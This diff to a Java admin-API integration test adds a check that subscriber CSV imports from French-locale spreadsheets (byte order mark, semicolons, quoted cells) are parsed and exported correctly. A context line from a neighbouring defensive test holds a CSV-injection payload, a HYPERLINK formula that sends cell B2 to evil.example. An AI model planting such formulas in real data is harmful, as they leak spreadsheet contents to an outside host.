@@ -53,6 +53,28 @@ class AdminApiTest extends IntegrationTestBase {
     }
 
     @Test
+    void csvSavedByASpreadsheetIsReadAsItLooks() throws Exception {
+        String a = unique("semi") + "@example.org";
+        String b = unique("semi") + "@example.org";
+        String c = unique("bom") + "@example.org";
+        // A spreadsheet set to French: byte order mark, semicolons, its own capitals, the cell holding a ';' quoted.
+        String french = "\uFEFFEmail;Categories;Tags\r\n" + a + ";\"Atelier;Conférence\";ia\r\n" + b + ";;\r\n";
+        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", french);
+        assertThat(report.statusCode()).isEqualTo(200);
+        assertThat(report.body()).contains("\"email\":\"" + a + "\",\"outcome\":\"CREATED\"")
+                .contains("\"email\":\"" + b + "\",\"outcome\":\"CREATED\"").doesNotContain("INVALID");
+        // "CSV UTF-8" with commas: the mark alone.
+        HttpResponse<String> bom = admin("POST", "/api/admin/subscribers/import", "text/csv",
+                "\uFEFFemail,tags\n" + c + ",ia\n");
+        assertThat(bom.statusCode()).isEqualTo(200);
+        assertThat(bom.body()).contains("\"email\":\"" + c + "\",\"outcome\":\"CREATED\"");
+
+        String export = admin("GET", "/api/admin/subscribers/export.csv", null, null).body();
+        assertThat(export).contains(a + ",CONFIRMED,false,atelier;conférence,ia,IMPORT")
+                .contains(b + ",CONFIRMED,true,,,IMPORT").contains(c + ",CONFIRMED,false,,ia,IMPORT");
+    }
+
+    @Test
     void exportedCellsThatASpreadsheetWouldEvaluateStayText() throws Exception {
         String email = unique("csv") + "@example.org";
         String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&B2,\\\"x\\\")";
